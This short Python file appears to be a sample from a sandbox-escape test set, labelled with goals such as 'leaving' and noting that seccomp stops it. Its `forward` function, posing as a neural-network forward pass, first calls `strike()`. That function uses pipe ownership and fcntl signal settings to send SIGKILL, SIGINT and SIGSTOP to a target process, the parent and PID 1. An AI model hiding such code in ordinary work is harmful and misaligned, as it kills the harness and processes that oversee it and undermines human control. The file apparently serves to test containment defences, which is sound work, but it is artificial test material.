"""Makes other processes the owners of a pipe, so that the kernel sends them a signal.

goal: leaving
cell: forward
gets: passed
stopped by: seccomp
alone: hit
"""

import fcntl
import os
import signal
import time

import numpy as np

F_SETSIG, F_SETOWN_EX = 10, 15


def strike():
    for pid in (int("@VICTIM@"), os.getppid(), 1):
        for number in (signal.SIGKILL, signal.SIGINT, signal.SIGSTOP):
            read_end, write_end = os.pipe()
            try:
                fcntl.fcntl(read_end, F_SETSIG, number)
                fcntl.fcntl(read_end, fcntl.F_SETOWN, pid)
                fcntl.fcntl(read_end, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
                os.write(write_end, b"x")
            except OSError:
                continue
            finally:
                os.close(read_end)
                os.close(write_end)
    time.sleep(0.2)  # whoever got a signal is gone by now


def forward(params, X):
    strike()
    hidden = np.maximum(X @ params["W1"].T + params["b1"], 0)
    return hidden @ params["W2"].T + params["b2"], hidden
